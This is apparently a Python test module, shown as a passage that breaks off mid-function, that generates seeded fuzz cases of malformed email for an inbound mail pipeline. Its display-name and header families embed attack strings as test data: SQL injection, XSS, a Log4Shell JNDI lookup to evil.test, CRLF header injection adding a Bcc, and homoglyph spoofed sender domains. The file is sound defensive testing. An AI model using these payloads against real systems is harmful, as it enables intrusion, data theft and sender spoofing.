"""The fuzz corpus: seeded families of mutations over realistic base messages.

Nothing here is stored on disk: `generate(seed, counts, now, keys)` builds every message from
the seed, so a failing message can be rebuilt from its family and index alone
(`case(family, index, ...)`). Each family has a list of variants taken in turn (index modulo
the number of variants), so even a small subset touches every variant; the random parts of a
variant (where a mutation lands, sizes, which base shape) come from a generator seeded by
(seed, family, index).

Each case says how to send it (smtplib, or a raw socket for what smtplib would fix or refuse),
which privacy markers it carries, which addresses may legitimately be asked (the outer To/Cc)
and whether its address headers are broken on purpose (then it must ask nobody).
"""

from __future__ import annotations

import base64
import email.utils
import json
import random
from collections.abc import Callable
from dataclasses import dataclass, field
from datetime import datetime
from pathlib import Path

from .generated import hypothesis_variant
from .messages import AGENCIES, MARKER_PREFIX, Base, Editor, b64_lines, build_base, fmt, person

SAMPLES = Path(__file__).parent / "samples"


@dataclass
class Case:
    family: str
    variant: str
    index: int
    raw: bytes
    agency: str  # key into messages.AGENCIES; the runner maps it to the agency's BCC address
    markers: list[str]
    transport: str = "smtplib"  # or "raw"
    mail_from: str = "sam@acme.test"
    mail_options: tuple[str, ...] = ()
    session: str = ""  # a named SMTP script for the smtp_session family
    allowed: set[str] | None = None  # who may be asked (None: anyone in the raw message)
    address_defect: bool = False  # From/To/Cc broken on purpose: nobody may be asked
    signed: bool = False

    @property
    def name(self) -> str:
        return f"{self.family}/{self.variant}#{self.index}"


@dataclass
class Context:
    seed: int
    now: datetime
    keys: dict  # domain -> tests.inbound.mail.SigningKey
    family_number: int = 0
    rng: random.Random = field(default_factory=random.Random)
    index: int = 0
    pool_size: int = 1000  # drawn Hypothesis examples the generated family cycles through


def marker_for(family_code: str, index: int, rng: random.Random) -> str:
    return f"{MARKER_PREFIX}{family_code}{index:05d}z{rng.randrange(16**6):06x}"


def sign(ctx: Context, raw: bytes, domain: str, selector: str = "s1") -> bytes | None:
    key = ctx.keys.get(domain)
    if key is None:
        return None
    try:
        if selector != key.selector:
            original, key.selector = key.selector, selector
            try:
                return key.sign(raw)
            finally:
                key.selector = original
        return key.sign(raw)
    except Exception:  # dkimpy refuses some malformed messages; they go unsigned
        return None


def finish(
    ctx: Context,
    family: str,
    variant: str,
    index: int,
    base: Base,
    raw: bytes,
    *,
    sign_probability: float = 0.6,
    **kwargs,
) -> Case:
    """Sign some of the acme messages after mutation (so they can pass authentication and
    reach the recipient rules), and wrap up the case."""
    signed = False
    if (
        base.agency.key == "acme"
        and not kwargs.get("signed")
        and ctx.rng.random() < sign_probability
    ):
        result = sign(ctx, raw, base.agency.domain)
        if result is not None:
            raw, signed = result, True
    kwargs.setdefault("allowed", set(base.recipients))
    kwargs.setdefault("mail_from", base.sender)
    kwargs["signed"] = kwargs.get("signed") or signed
    return Case(family, variant, index, raw, base.agency.key, base.markers, **kwargs)


Variant = Callable[[Context, Base], tuple[bytes, dict]]

# --- families ---------------------------------------------------------------------------------
# Each variant takes the context and a fresh base message and returns (raw, case kwargs).


def _b64word(text: bytes, charset: str = "utf-8") -> str:
    return f"=?{charset}?b?{base64.b64encode(text).decode()}?="


def ew_subject_bad_base64(ctx, b):
    e = b.edit()
    return e.set("Subject", f"=?utf-8?b?!!not*base64{b.markers[0]}?=").bytes(), {}


def ew_subject_unknown_charset(ctx, b):
    e = b.edit()
    return e.set("Subject", f"=?x-klingon?q?{b.markers[0]}_offer?=").bytes(), {}


def ew_subject_invalid_utf8(ctx, b):
    word = _b64word(b"\xff\xfe\xed\xa0\x80 " + b.markers[0].encode())
    return b.edit().set("Subject", word).bytes(), {}


def ew_from_crlf(ctx, b):
    name = "=?utf-8?q?Sam=0D=0ABcc:_victim@evil.test?="
    return b.edit().set("From", f"{name} <{b.sender}>").bytes(), {"address_defect": True}


def ew_to_nul(ctx, b):
    e = b.edit()
    to = e.get("To").decode()
    word = _b64word(b"Cara\x00Null")
    return e.set("To", f"{word} <{b.recipients[0]}>, {to}").bytes(), {"address_defect": True}


def ew_in_addr_spec(ctx, b):
    e = b.edit()
    return e.set("To", f"=?utf-8?q?cara?=@candidate.test, {e.get('To').decode()}").bytes(), {}


def ew_wrong_charset_name(ctx, b):
    e = b.edit()
    word = _b64word("Zoë Ünïcode".encode(), "iso-8859-1")
    return e.set("To", f"{word} <{b.recipients[0]}>").bytes(), {}


def ew_overlong(ctx, b):
    word = _b64word(("x" * ctx.rng.randint(800, 5000)).encode())
    return b.edit().set("To", f"{word} <{b.recipients[0]}>").bytes(), {}


def ew_split_multibyte(ctx, b):
    data = "Zoë".encode()
    words = f"{_b64word(data[:3])} {_b64word(data[3:])}"
    return b.edit().set("To", f"{words} <{b.recipients[0]}>").bytes(), {}


def ew_rfc2231_garbage(ctx, b):
    e = b.edit()
    ct = e.get("Content-Type").decode()
    return e.set("Content-Type", ct + "; name*=utf-8''%FF%FE%00; name*0*=x").bytes(), {}


def ew_utf16_subject(ctx, b):
    word = _b64word(f"Offer {b.markers[0]}".encode("utf-16"), "utf-16")
    return b.edit().set("Subject", word).bytes(), {}


ENCODED_WORDS = [
    ew_subject_bad_base64,
    ew_subject_unknown_charset,
    ew_subject_invalid_utf8,
    ew_from_crlf,
    ew_to_nul,
    ew_in_addr_spec,
    ew_wrong_charset_name,
    ew_overlong,
    ew_split_multibyte,
    ew_rfc2231_garbage,
    ew_utf16_subject,
]


# 8-bit without SMTPUTF8 (raw socket): smtplib would refuse non-ASCII str or never be asked.
def eb_latin1_subject(ctx, b):
    return b.edit().set("Subject", b"Caf\xe9 \xfcber " + b.markers[0].encode()).bytes(), {
        "transport": "raw"
    }


def eb_utf8_names(ctx, b):
    e = b.edit()
    e.set("From", f"Sâm Çarter <{b.sender}>".encode())
    e.set("To", f"Zoë Ångström <{b.recipients[0]}>".encode())
    return e.bytes(), {"transport": "raw"}


def eb_utf8_local_part(ctx, b):
    addr = f"jösé{ctx.rng.randrange(10**6)}@candidate.test"
    raw = b.edit().set("To", f"José <{addr}>".encode()).bytes()
    return raw, {"transport": "raw", "allowed": None}


def eb_utf8_local_part_smtputf8(ctx, b):
    raw, kw = eb_utf8_local_part(ctx, b)
    return raw, {**kw, "mail_options": ("SMTPUTF8", "BODY=8BITMIME")}


def eb_invalid_utf8_domain(ctx, b):
    raw = b.edit().set("To", b"Cara <cara@cand\xff\xfeidate.test>").bytes()
    return raw, {"transport": "raw", "address_defect": True}


def eb_8bit_body_7bit_declared(ctx, b):
    e = b.edit()
    e.drop("Content-Transfer-Encoding").set("Content-Type", "text/plain; charset=us-ascii")
    e.set("Content-Transfer-Encoding", "7bit")
    e.body = b"Gr\xfc\xdfe " + b.markers[0].encode() + b" \xe2\x82\xac\xff\r\n"
    return e.bytes(), {"transport": "raw"}


def eb_8bit_header_name(ctx, b):
    e = b.edit().add("X-Pr\xe9fix\xff".encode("latin-1").decode("latin-1"), "")
    e.fields[-1] = b"X-Pr\xe9fix\xff: " + b.markers[0].encode()
    e.fields.insert(e._insert_point(), e.fields.pop())
    return e.bytes(), {"transport": "raw"}


def eb_raw_binary_body(ctx, b):
    e = b.edit()
    e.body = ctx.rng.randbytes(2000).replace(b"\r\n.\r\n", b"") + b"\r\n" + b.markers[0].encode()
    return e.bytes() + b"\r\n", {"transport": "raw"}


EIGHT_BIT = [
    eb_latin1_subject,
    eb_utf8_names,
    eb_utf8_local_part,
    eb_utf8_local_part_smtputf8,
    eb_invalid_utf8_domain,
    eb_8bit_body_7bit_declared,
    eb_8bit_header_name,
    eb_raw_binary_body,
]


def _set_charset(b: Base, charset: str, payload: bytes | None = None) -> bytes:
    e = b.edit()
    e.set("Content-Type", f"text/plain; charset={charset}")
    e.set("Content-Transfer-Encoding", "8bit")
    e.body = payload if payload is not None else b.extra["text"].encode()
    return e.bytes()


def cs_unknown(ctx, b):
    return _set_charset(b, '"x-unknown-charset"'), {}


def cs_utf7(ctx, b):
    return _set_charset(b, "utf-7", b"+AGEAYgBj-" + b.extra["text"].encode()), {}


def cs_utf16_declared_utf8_sent(ctx, b):
    return _set_charset(b, "utf-16"), {}


def cs_latin1_declared_utf8(ctx, b):
    return _set_charset(b, "utf-8", b.extra["text"].encode() + b"\xe9\xe8\xff\r\n"), {}


def cs_param_garbage(ctx, b):
    return _set_charset(b, '"utf-8\\"; charset=\\"koi8-r'), {}


def cs_structured_wrong_charset(ctx, b):
    block = (
        "-----BEGIN EMAILSYNC-----\r\n"
        '{"placement_ref": "PL-charset", "role": "candidate"}\r\n'
        "-----END EMAILSYNC-----\r\n"
    )
    payload = (b.extra["text"] + block).encode("utf-16-le")
    return _set_charset(b, "iso-2022-jp", payload), {}


def cs_ebcdic(ctx, b):
    return _set_charset(b, "cp500", b.extra["text"].encode("cp500")), {}


CHARSETS = [
    cs_unknown,
    cs_utf7,
    cs_utf16_declared_utf8_sent,
    cs_latin1_declared_utf8,
    cs_param_garbage,
    cs_structured_wrong_charset,
    cs_ebcdic,
]


def _addresses(ctx, count: int, named: bool, prefix: str = "r") -> list[str]:
    base = ctx.rng.randrange(10**6)
    items = []
    for i in range(count):
        addr = f"{prefix}{base}.{i}@{ctx.rng.choice(['candidate.test', 'client.test'])}"
        items.append(fmt(f"Person {i}", addr) if named else addr)
    return items


def ma_1000_bare(ctx, b):
    return b.edit().set("To", ", ".join(_addresses(ctx, 1000, False))).bytes(), {"allowed": None}


def ma_1000_named(ctx, b):
    return b.edit().set("To", ", ".join(_addresses(ctx, 1000, True))).bytes(), {"allowed": None}


def ma_1000_split_to_cc(ctx, b):
    items = _addresses(ctx, 1000, True)
    e = b.edit().set("To", ", ".join(items[:500])).set("Cc", ", ".join(items[500:]))
    return e.bytes(), {"allowed": None}


def ma_1000_folded(ctx, b):
    return b.edit().set("To", ",\r\n ".join(_addresses(ctx, 1000, True))).bytes(), {"allowed": None}


def ma_one_bad_in_1000(ctx, b):
    items = _addresses(ctx, 1000, False)
    items[ctx.rng.randrange(1000)] = '"unterminated <broken@'
    return b.edit().set("To", ", ".join(items)).bytes(), {"address_defect": True, "allowed": None}


def ma_2500(ctx, b):
    return b.edit().set("To", ", ".join(_addresses(ctx, 2500, False))).bytes(), {
        "address_defect": True,
        "allowed": None,
    }


def ma_1000_headers(ctx, b):
    e = b.edit()
    for addr in _addresses(ctx, 1000, False):
        e.duplicate("To", addr)
    return e.bytes(), {"address_defect": True, "allowed": None}


def ma_quoted_commas(ctx, b):
    items = [f'"Last, First {i}" <{a}>' for i, a in enumerate(_addresses(ctx, 1000, False))]
    return b.edit().set("To", ", ".join(items)).bytes(), {"allowed": None}


def ma_groups(ctx, b):
    groups = []
    for g in range(200):
        groups.append(f"Team {g}: " + ", ".join(_addresses(ctx, 5, False, f"g{g}x")) + ";")
    return b.edit().set("To", " ".join(groups)).bytes(), {"allowed": None}


def ma_same_address(ctx, b):
    return b.edit().set("To", ", ".join([b.recipients[0]] * 1000)).bytes(), {}


def ma_under_cap(ctx, b):
    items = _addresses(ctx, 8, True)
    return b.edit().set("To", ", ".join(items)).bytes(), {"allowed": None}


MANY_ADDRESSES = [
    ma_1000_bare,
    ma_1000_named,
    ma_1000_split_to_cc,
    ma_1000_folded,
    ma_one_bad_in_1000,
    ma_2500,
    ma_1000_headers,
    ma_quoted_commas,
    ma_groups,
    ma_same_address,
    ma_under_cap,
]


def ll_long_subject(ctx, b):
    return b.edit().set(
        "Subject", b.markers[0] + " " + "x" * ctx.rng.randint(2000, 40000)
    ).bytes(), {}


def ll_folded_to(ctx, b):
    e = b.edit()
    return e.set(
        "To", ",\r\n\t".join(fmt(f"P{i}", a) for i, a in enumerate(b.recipients))
    ).bytes(), {}


def ll_many_folds(ctx, b):
    words = " ".join(f"w{i}" for i in range(2000))
    folded = words.replace(" ", "\r\n ")
    return b.edit().set("X-Folded", f"{b.markers[0]} {folded}").bytes(), {}


def ll_whitespace_only_continuation(ctx, b):
    e = b.edit()
    e.set_raw("Keywords", b"Keywords: a,\r\n \r\n\t\r\n b " + b.markers[0].encode())
    return e.bytes(), {}


def ll_body_line(ctx, b):
    e = b.edit()
    e.body = (b.markers[0] + " ").encode() + b"y" * ctx.rng.randint(1000, 200_000) + b"\r\n"
    return e.bytes(), {}


def ll_body_line_over_limit(ctx, b):
    e = b.edit()
    e.body = b.markers[0].encode() + b"z" * ctx.rng.randint(270_000, 400_000) + b"\r\n"
    return e.bytes(), {}


def ll_header_over_limit(ctx, b):
    return b.edit().set("X-Huge", b.markers[0] + "h" * 300_000).bytes(), {}


def ll_long_display_name(ctx, b):
    name = "N" * ctx.rng.randint(500, 3000)
    return b.edit().set("To", f"{name} <{b.recipients[0]}>").bytes(), {}


def ll_fold_inside_addr_spec(ctx, b):
    local, _, domain = b.recipients[0].partition("@")
    return b.edit().set("To", f"Cara <{local}@\r\n {domain}>").bytes(), {}


def ll_long_message_id(ctx, b):
    return b.edit().set("Message-ID", f"<{b.markers[0]}{'m' * 5000}@x.test>").bytes(), {}


def ll_unwrapped_base64(ctx, b):
    e = b.edit().set("Content-Transfer-Encoding", "base64")
    e.set("Content-Type", "text/plain; charset=utf-8")
    e.body = base64.b64encode((b.extra["text"] * 300).encode()) + b"\r\n"
    return e.bytes(), {}


LONG_LINES = [
    ll_long_subject,
    ll_folded_to,
    ll_many_folds,
    ll_whitespace_only_continuation,
    ll_body_line,
    ll_body_line_over_limit,
    ll_header_over_limit,
    ll_long_display_name,
    ll_fold_inside_addr_spec,
    ll_long_message_id,
    ll_unwrapped_base64,
]


def nc_subject(ctx, b):
    return b.edit().set("Subject", b"Offer\x00 " + b.markers[0].encode()).bytes(), {
        "transport": "raw"
    }


def nc_body(ctx, b):
    e = b.edit()
    e.body = e.body.replace(b"\r\n", b"\x00\r\n", 3)
    return e.bytes(), {"transport": "raw"}


def nc_from_name(ctx, b):
    raw = b.edit().set("From", f"Sam\x00Carter <{b.sender}>".encode()).bytes()
    return raw, {"transport": "raw", "address_defect": True}


def nc_to_address(ctx, b):
    local, _, domain = b.recipients[0].partition("@")
    raw = b.edit().set("To", f"Cara <{local}\x00@{domain}>".encode()).bytes()
    return raw, {"transport": "raw", "address_defect": True}


def nc_c0_controls(ctx, b):
    junk = bytes(c for c in range(1, 32) if c not in (9, 10, 13))
    raw = b.edit().set("Keywords", junk + b.markers[0].encode() + b"\x7f").bytes()
    return raw, {"transport": "raw"}


def nc_control_in_to_name(ctx, b):
    raw = b.edit().set("To", f"Cara\x07\x1b[31m <{b.recipients[0]}>".encode()).bytes()
    return raw, {"transport": "raw"}


def nc_bare_cr_injection(ctx, b):
    raw = b.edit().set("To", f"Cara <{b.recipients[0]}>\rBcc: victim@evil.test".encode()).bytes()
    return raw, {"transport": "raw"}


def nc_nul_header_name(ctx, b):
    e = b.edit()
    e.fields.insert(e._insert_point(), b"X-N\x00ul: " + b.markers[0].encode())
    return e.bytes(), {"transport": "raw"}


def nc_leading_nul(ctx, b):
    return b"\x00" + b.raw, {"transport": "raw", "address_defect": True}


NUL_AND_CONTROLS = [
    nc_subject,
    nc_body,
    nc_from_name,
    nc_to_address,
    nc_c0_controls,
    nc_control_in_to_name,
    nc_bare_cr_injection,
    nc_nul_header_name,
    nc_leading_nul,
]


def le_bare_lf(ctx, b):
    return b.raw.replace(b"\r\n", b"\n"), {"transport": "raw"}


def le_lf_headers_crlf_body(ctx, b):
    e = b.edit()
    return e.header_bytes(b"\n") + b"\n\n" + e.body, {"transport": "raw"}


def le_mixed(ctx, b):
    lines = b.raw.split(b"\r\n")
    out = b""
    for line in lines[:-1]:
        out += line + ctx.rng.choice([b"\r\n", b"\n", b"\r\n"])
    return out + lines[-1], {"transport": "raw"}


def le_bare_cr(ctx, b):
    return b.raw.replace(b"\r\n", b"\r"), {"transport": "raw"}


def le_cr_cr_lf(ctx, b):
    return b.raw.replace(b"\r\n", b"\r\r\n"), {"transport": "raw"}


def le_dot_lines(ctx, b):
    e = b.edit().set("Content-Type", "text/plain").set("Content-Transfer-Encoding", "7bit")
    e.body = b".\r\n..\r\n. " + b.markers[0].encode() + b"\r\n.hidden\r\n...\r\n.\r\n"
    return e.bytes(), {"transport": "raw"}


def le_no_final_newline(ctx, b):
    return b.raw.rstrip(b"\r\n"), {"transport": "raw"}


def le_space_before_colon(ctx, b):
    e = b.edit()
    e.set_raw("subject", b"Subject : " + e.get("Subject"))
    e.set_raw("to", b"To\t: " + e.get("To"))
    return e.bytes(), {"transport": "raw"}


def le_lf_inside_header(ctx, b):
    e = b.edit()
    e.set_raw("to", b"To: " + e.get("To") + b"\nBcc: victim@evil.test")
    return e.bytes(), {"transport": "raw"}


LINE_ENDINGS = [
    le_bare_lf,
    le_lf_headers_crlf_body,
    le_mixed,
    le_bare_cr,
    le_cr_cr_lf,
    le_dot_lines,
    le_no_final_newline,
    le_space_before_colon,
    le_lf_inside_header,
]


def hp_missing(name, defect=False):
    def variant(ctx, b):
        return b.edit().drop(name).bytes(), {"address_defect": defect}

    variant.__name__ = f"hp_missing_{name.lower().replace('-', '_')}"
    return variant


def hp_duplicated(name, defect=False, other=None):
    def variant(ctx, b):
        e = b.edit()
        value = other(ctx, b) if other else None
        return e.duplicate(name, value).bytes(), {"address_defect": defect}

    variant.__name__ = f"hp_duplicated_{name.lower().replace('-', '_')}"
    return variant


def hp_missing_to_and_cc(ctx, b):
    return b.edit().drop("To").drop("Cc").bytes(), {}


def hp_empty_from(ctx, b):
    return b.edit().set("From", "").bytes(), {"address_defect": True}


def hp_from_group(ctx, b):
    return b.edit().set("From", "Team: ;").bytes(), {"address_defect": True}


def hp_from_two(ctx, b):
    return b.edit().set("From", f"{b.sender}, other@{b.agency.domain}").bytes(), {
        "address_defect": True
    }


def hp_not_a_header(ctx, b):
    e = b.edit()
    e.fields.insert(e.index("Subject"), b"this line is not a header")
    return e.bytes(), {"address_defect": True}


def hp_leading_continuation(ctx, b):
    return b" folded-first-line\r\n" + b.raw, {}


def hp_space_in_name(ctx, b):
    e = b.edit()
    e.fields.insert(e._insert_point(), b"X Bad Name: " + b.markers[0].encode())
    return e.bytes(), {}


def hp_empty_name(ctx, b):
    e = b.edit()
    e.fields.insert(e._insert_point(), b": " + b.markers[0].encode())
    return e.bytes(), {}


def hp_long_name(ctx, b):
    e = b.edit()
    e.fields.insert(e._insert_point(), b"X-" + b"n" * 2000 + b": " + b.markers[0].encode())
    return e.bytes(), {}


def hp_500_headers(ctx, b):
    e = b.edit()
    for i in range(500):
        e.add(f"X-Extra-{i}", f"{b.markers[0]} {i}")
    return e.bytes(), {}


def hp_resent_and_sender(ctx, b):
    e = b.edit()
    e.add("Sender", "assistant@evil.test").add("Reply-To", "evil@evil.test")
    e.add("Resent-From", "evil@evil.test").add("Resent-To", "victim@evil.test")
    return e.bytes(), {}


def _other_to(ctx, b):
    return person(ctx.rng, ctx.rng.randrange(10**6))[1]


HEADER_PRESENCE = [
    hp_missing("From", True),
    hp_missing_to_and_cc,
    hp_missing("Date"),
    hp_missing("Message-ID"),
    hp_missing("Subject"),
    hp_missing("MIME-Version"),
    hp_missing("Content-Type"),
    hp_duplicated("From", True, lambda ctx, b: f"evil@{b.agency.domain}"),
    hp_duplicated("To", True, _other_to),
    hp_duplicated("Subject"),
    hp_duplicated("Message-ID", False, lambda ctx, b: f"<other{ctx.rng.random()}@x.test>"),
    hp_duplicated("Date", False, lambda ctx, b: "Mon, 1 Jan 1990 00:00:00 +0000"),
    hp_duplicated("Content-Type", False, lambda ctx, b: "application/octet-stream"),
    hp_empty_from,
    hp_from_group,
    hp_from_two,
    hp_not_a_header,
    hp_leading_continuation,
    hp_space_in_name,
    hp_empty_name,
    hp_long_name,
    hp_500_headers,
    hp_resent_and_sender,
]


def _inner_message(ctx, b, depth: int, structured: bool = True) -> bytes:
    inner_to = f"inner{ctx.rng.randrange(10**6)}@elsewhere.test"
    inner = (
        f"From: Other Agency <boss@other.test>\r\nTo: {inner_to}\r\n"
        f"Subject: forwarded {b.markers[0]}-inner\r\nMIME-Version: 1.0\r\n"
        "X-EmailSync-Placement: INNER-REF\r\nContent-Type: text/plain\r\n\r\n"
        f"Inner body {b.markers[0]}-innerbody\r\n"
    ).encode()
    if structured:
        inner += (
            b"-----BEGIN EMAILSYNC-----\r\n"
            b'{"placement_ref": "INNER", "recipients": [{"email": "' + inner_to.encode() + b'"}]}'
            b"\r\n-----END EMAILSYNC-----\r\n"
        )
    for level in range(depth - 1):
        boundary = f"nest{level}"
        inner = (
            (
                f"From: level{level}@other.test\r\nTo: {inner_to}\r\n"
                f'Content-Type: multipart/mixed; boundary="{boundary}"\r\n\r\n'
                f"--{boundary}\r\nContent-Type: message/rfc822\r\n\r\n"
            ).encode()
            + inner
            + f"\r\n--{boundary}--\r\n".encode()
        )
    return inner


def _attach(b: Base, part_headers: bytes, payload: bytes) -> bytes:
    e = b.edit()
    boundary = "outer" + b.extra["boundary"]
    e.set("Content-Type", f'multipart/mixed; boundary="{boundary}"').drop(
        "Content-Transfer-Encoding"
    )
    text = b.extra["text"].encode()
    e.body = (
        f"--{boundary}\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n".encode()
        + text
        + f"\r\n--{boundary}\r\n".encode()
        + part_headers
        + b"\r\n"
        + payload
        + f"\r\n--{boundary}--\r\n".encode()
    )
    return e.bytes()


def nr_depth(depth):
    def variant(ctx, b):
        raw = _attach(b, b"Content-Type: message/rfc822\r\n", _inner_message(ctx, b, depth))
        return raw, {}

    variant.__name__ = f"nr_depth_{depth}"
    return variant


def nr_base64_rfc822(ctx, b):
    payload = b64_lines(_inner_message(ctx, b, 1))
    headers = b"Content-Type: message/rfc822\r\nContent-Transfer-Encoding: base64\r\n"
    return _attach(b, headers, payload), {}


def nr_truncated(ctx, b):
    inner = _inner_message(ctx, b, 3)
    return _attach(b, b"Content-Type: message/rfc822\r\n", inner[: len(inner) // 2]), {}


def nr_headerless(ctx, b):
    payload = b"\r\n" + b.markers[0].encode() + b" no headers\r\n"
    return _attach(b, b"Content-Type: message/rfc822\r\n", payload), {}


def nr_digest(ctx, b):
    e = b.edit()
    e.set("Content-Type", 'multipart/digest; boundary="dg"').drop("Content-Transfer-Encoding")
    msgs = b"".join(b"--dg\r\n\r\n" + _inner_message(ctx, b, 1) + b"\r\n" for _ in range(5))
    e.body = msgs + b"--dg--\r\n"
    return e.bytes(), {}


def nr_rfc822_headers(ctx, b):
    headers = _inner_message(ctx, b, 1).split(b"\r\n\r\n")[0]
    return _attach(b, b"Content-Type: text/rfc822-headers\r\n", headers), {}


def nr_partial(ctx, b):
    headers = b'Content-Type: message/partial; id="x@y"; number=1; total=2\r\n'
    return _attach(b, headers, _inner_message(ctx, b, 1)), {}


def nr_outer_is_rfc822(ctx, b):
    e = b.edit().set("Content-Type", "message/rfc822").drop("Content-Transfer-Encoding")
    e.body = _inner_message(ctx, b, 2)
    return e.bytes(), {}


NESTED_RFC822 = [
    nr_depth(1),
    nr_depth(3),
    nr_depth(12),
    nr_depth(60),
    nr_base64_rfc822,
    nr_truncated,
    nr_headerless,
    nr_digest,
    nr_rfc822_headers,
    nr_partial,
    nr_outer_is_rfc822,
]


def _pad_headers(ctx, b, total: int, where: str, kind: str) -> bytes:
    e = b.edit()
    chunk = "r" * 1800
    if kind == "received":
        count = total // 1900
        lines = [
            f"Received: from relay{i}.test ({chunk[: ctx.rng.randint(1700, 1800)]})".encode()
            for i in range(count)
        ]
    elif kind == "single":
        lines = [b"X-Junk: " + b"\r\n ".join([b"j" * 900] * (total // 903))]
    else:  # many small headers
        lines = [f"X-S{i}: v".encode() for i in range(total // 10)]
    if where == "top":
        e.fields[0:0] = lines
    else:
        at = e.index("Subject")
        e.fields[at:at] = lines
    return e.bytes()


def hh_received_top(ctx, b):
    size = ctx.rng.choice([1_500_000, 3_000_000])
    return _pad_headers(ctx, b, size, "top", "received"), {"address_defect": True}


def hh_single_header(ctx, b):
    size = ctx.rng.choice([2_000_000, 6_000_000])
    return _pad_headers(ctx, b, size, "middle", "single"), {}


def hh_many_small(ctx, b):
    return _pad_headers(ctx, b, 1_200_000, "middle", "small"), {}


def hh_just_under(ctx, b):
    return _pad_headers(ctx, b, 900_000, "middle", "received"), {}


HUGE_HEADERS = [hh_received_top, hh_single_header, hh_many_small, hh_just_under]


INJECTIONS = [
    "Robert'); DROP TABLE inbound_trigger;--",
    "' OR '1'='1' --",
    "<script>alert(document.cookie)</script>",
    '<img src=x onerror="alert(1)">',
    "%s%s%s%n%x%p",
    "{0.__class__.__mro__}",
    "${jndi:ldap://evil.test/a}",
    "{{7*7}} {% debug %}",
    "%(password)s",
    "\u202egnp.exe\u202c Sam",
    "S\u200ba\u200dm\ufeff Carter",
    "\u0627\u0644\u0639\u0631\u0628\u064a\u0629 \u05e2\u05d1\u05e8\u05d9\u05ea",
    "sam@acme.test",
    "\U0001f600\U0001f4a9 Emoji",
    "A\u0301\u0301\u0301\u0301\u0301 Zalgo",
]


def _encode_name(name: str) -> str:
    if name.isascii() and not any(c in name for c in '"\\(),:;<>@[]'):
        return name
    if name.isascii():
        return '"' + name.replace("\\", "\\\\").replace('"', '\\"') + '"'
    return _b64word(name.encode())


def dn_from_name(ctx, b):
    name = INJECTIONS[ctx.rng.randrange(len(INJECTIONS))]
    return b.edit().set("From", f"{_encode_name(name)} <{b.sender}>").bytes(), {}


def dn_to_name(ctx, b):
    name = INJECTIONS[ctx.rng.randrange(len(INJECTIONS))]
    return b.edit().set("To", f"{_encode_name(name)} <{b.recipients[0]}>").bytes(), {}


def dn_raw_crlf_quoted(ctx, b):
    raw = b.edit().set("From", f'"Sam\r\nBcc: victim@evil.test" <{b.sender}>').bytes()
    return raw, {"address_defect": True}


def dn_encoded_lf(ctx, b):
    name = _b64word(b"Cara\nX-Injected: yes")
    return b.edit().set("To", f"{name} <{b.recipients[0]}>").bytes(), {"address_defect": True}


def dn_quoted_address_lookalike(ctx, b):
    raw = b.edit().set("From", f'"{b.sender}" <evil@evil.test>').bytes()
    return raw, {}


def dn_homoglyph_from(ctx, b):
    # Cyrillic a and Greek o: the From domain looks like the agency's and is not.
    fake = b.agency.domain.replace("a", "\u0430", 1).replace("e", "\u0435", 1)
    return b.edit().set("From", f"Sam <sam@{fake}>".encode()).bytes(), {"transport": "raw"}


def dn_homoglyph_punycode(ctx, b):
    fake = b.agency.domain.replace("a", "\u0430", 1).encode("idna").decode()
    return b.edit().set("From", f"Sam <sam@{fake}>").bytes(), {}


def dn_subdomain_lookalike(ctx, b):
    return b.edit().set("From", f"Sam <sam@{b.agency.domain}.evil.test>").bytes(), {}


def dn_bidi_address(ctx, b):
    return b.edit().set("To", "Cara <cara\u202e@candidate.test>".encode()).bytes(), {
        "transport": "raw",
        "allowed": None,
    }


def dn_sql_in_local_part(ctx, b):
    addr = '"x\'; DROP TABLE reviews;--"@candidate.test'
    return b.edit().set("To", f"Bobby <{addr}>").bytes(), {"allowed": None}


DISPLAY_NAMES = [
    dn_from_name,
    dn_to_name,
    dn_raw_crlf_quoted,
    dn_encoded_lf,
    dn_quoted_address_lookalike,
    dn_homoglyph_from,
    dn_homoglyph_punycode,
    dn_subdomain_lookalike,
    dn_bidi_address,
    dn_sql_in_local_part,
]


def _single_part(b: Base, cte: str, payload: bytes, ctype: str = "text/plain; charset=utf-8"):
    e = b.edit().set("Content-Type", ctype).set("Content-Transfer-Encoding", cte)
    e.body = payload
    return e.bytes()


def _with_block(b: Base) -> bytes:
    return (
        b.extra["text"] + "-----BEGIN EMAILSYNC-----\r\n"
        '{"placement_ref": "PL-te", "role": "candidate"}\r\n-----END EMAILSYNC-----\r\n'
    ).encode()


def te_b64_invalid_chars(ctx, b):
    data = bytearray(b64_lines(_with_block(b)))
    for _ in range(10):
        data[ctx.rng.randrange(len(data))] = ord(ctx.rng.choice("!*%$#~"))
    return _single_part(b, "base64", bytes(data)), {}


def te_b64_bad_padding(ctx, b):
    return _single_part(b, "base64", b64_lines(_with_block(b)).rstrip(b"=") + b"===="), {}


def te_b64_truncated(ctx, b):
    data = b64_lines(_with_block(b))
    return _single_part(b, "base64", data[: len(data) - 3]), {}


def te_b64_binary(ctx, b):
    return _single_part(b, "base64", b64_lines(ctx.rng.randbytes(3000))), {}


def te_qp_bad_escapes(ctx, b):
    return _single_part(b, "quoted-printable", b"=ZZ=G1=\r\n=" + _with_block(b) + b"=4"), {}


def te_qp_soft_break_multibyte(ctx, b):
    payload = b"Zo=C3=\r\n=AB " + b.markers[0].encode() + b"=\r\n"
    return _single_part(b, "quoted-printable", payload), {}


def te_unknown_cte(ctx, b):
    return _single_part(b, "x-uuencode", b"begin 644 x\r\n" + _with_block(b)), {}


def te_binary_cte(ctx, b):
    return _single_part(b, "binary", b"\x00\x01" + _with_block(b) + b"\x00"), {"transport": "raw"}


def te_duplicated_cte(ctx, b):
    e = Editor(_single_part(b, "base64", b64_lines(_with_block(b))))
    return e.duplicate("Content-Transfer-Encoding", "quoted-printable").bytes(), {}


def te_base64_multipart(ctx, b):
    if b.shape not in ("alternative", "attachment"):
        return te_b64_binary(ctx, b)
    return b.edit().set("Content-Transfer-Encoding", "base64").bytes(), {}


TRANSFER_ENCODING = [
    te_b64_invalid_chars,
    te_b64_bad_padding,
    te_b64_truncated,
    te_b64_binary,
    te_qp_bad_escapes,
    te_qp_soft_break_multibyte,
    te_unknown_cte,
    te_binary_cte,
    te_duplicated_cte,
    te_base64_multipart,
]


def _multipart(b: Base, ctype: str, body: bytes) -> bytes:
    e = b.edit().set("Content-Type", ctype).drop("Content-Transfer-Encoding")
    e.body = body
    return e.bytes()


def _part(text: bytes) -> bytes:
    return b"Content-Type: text/plain\r\n\r\n" + text + b"\r\n"


def ms_no_boundary_param(ctx, b):
    return _multipart(b, "multipart/mixed", b"--x\r\n" + _part(_with_block(b)) + b"--x--\r\n"), {}


def ms_boundary_unused(ctx, b):
